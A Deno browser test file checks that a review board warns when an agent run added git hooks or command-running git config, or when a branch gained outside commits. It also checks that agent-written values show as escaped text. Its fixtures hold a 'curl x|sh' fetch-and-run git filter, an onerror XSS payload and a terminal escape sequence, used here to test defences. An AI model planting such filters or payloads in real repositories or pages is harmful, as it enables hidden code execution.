/**
 * The board's warning that the latest run changed the repository's command-running git setup
 * (the `git_setup` part of `/status`, lib/status/git_setup.ts), in the real browser: it names
 * each change in the terminal's words — what an agent wrote shown as escaped text, never as
 * markup — and goes once the run's record shows no change.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { appendEvents } from "../../lib/journal/journal_file.ts";
import * as ev from "../../lib/journal/events.ts";
import { writeRunState } from "../../lib/runs/run_state.ts";
import { gitSetupPath, writeGitSetupRecord } from "../../lib/runs/git_setup.ts";
import { outsideCommitsPath, writeOutsideCommits } from "../../lib/runs/outside_commits.ts";
import { workspacePaths } from "../../lib/workspace.ts";
import { openBoard, screenshot } from "./_harness.ts";

const BEFORE = { hooks: {}, config: {} };
const AFTER = {
  hooks: { ".git/hooks/post-commit": "9f2c" },
  config: { "filter.evil.clean": `sh -c 'curl x|sh' <img src=x onerror="alert(1)">\u001b[2J` },
};

/** The run state of a run `golden` that ended (its process long gone). */
async function endedRun(paths: ReturnType<typeof workspacePaths>): Promise<void> {
  await writeRunState(paths, {
    run_id: "golden",
    pid: 2 ** 22 + 1,
    plan: "plan.yaml",
    url: "http://127.0.0.1:1",
    started_at: 1,
    status: "completed",
  });
}

Deno.test("board page: a run that changed the repository's git setup shows a warning naming each change, as text", async () => {
  await using board = await openBoard({
    prepare: async (root) => {
      const paths = workspacePaths(root);
      await endedRun(paths);
      await writeGitSetupRecord(gitSetupPath(paths, "golden"), { before: BEFORE, after: AFTER });
    },
  });
  const { page } = board;
  await page.goto(`${board.url}/dashboard/review-board?run=golden`);
  const warning = page.locator("[data-git-setup-warning=golden]");
  await warning.waitFor({ timeout: 10_000 });
  const text = (await warning.textContent())!;
  assert.match(text, /git setup that runs commands changed during run golden/);
  assert.match(text, /new hook \.git\/hooks\/post-commit/);
  assert.match(text, /new config filter\.evil\.clean = sh -c 'curl x\|sh' <img src=x/);
  assert.match(text, /\\x1b\[2J/, "the escape is shown, not obeyed");
  assert.match(text, /Remove what you did not put there yourself/);
  assert.equal(await page.locator("img[src=x]").count(), 0, "no markup from the config value");
  await screenshot(page, "git_setup_warning.png", false);

  // The record shows no change any more (the next run's, say): the warning goes on the next read.
  await writeGitSetupRecord(gitSetupPath(workspacePaths(board.root), "golden"), {
    before: AFTER,
    after: AFTER,
  });
  await appendEvents(join(board.runDir("golden"), "journal.jsonl"), [
    ev.taskVerificationRecorded({
      task_id: "t9",
      session_id: "s-t9",
      tests_run: true,
      quality_gates_run: false,
      completion_signals_checked: false,
      verified: true,
    }),
  ]);
  await warning.waitFor({ state: "detached", timeout: 10_000 });
});

Deno.test("board page: a run whose branch gained commits the service did not make names each one, as text", async () => {
  await using board = await openBoard({
    prepare: async (root) => {
      const paths = workspacePaths(root);
      await endedRun(paths);
      await writeOutsideCommits(outsideCommitsPath(paths, "golden"), {
        branch: "main",
        start: "a".repeat(40),
        outside: [{
          sha: "b".repeat(40),
          subject: `evil direct <img src=x onerror="alert(1)">\u001b[2J`,
          author: "mallory",
        }],
      });
    },
  });
  const { page } = board;
  await page.goto(`${board.url}/dashboard/review-board?run=golden`);
  const warning = page.locator("[data-outside-commits=golden]");
  await warning.waitFor({ timeout: 10_000 });
  const text = (await warning.textContent())!;
  assert.match(text, /main gained commits the service did not make while run golden was live/);
  assert.match(
    text,
    /bbbbbbbbbb evil direct <img src=x onerror="alert\(1\)">\\x1b\[2J \(mallory\)/,
  );
  assert.match(text, /If you did not make them, look at them before you push/);
  assert.equal(await page.locator("img[src=x]").count(), 0, "no markup from the subject");
});
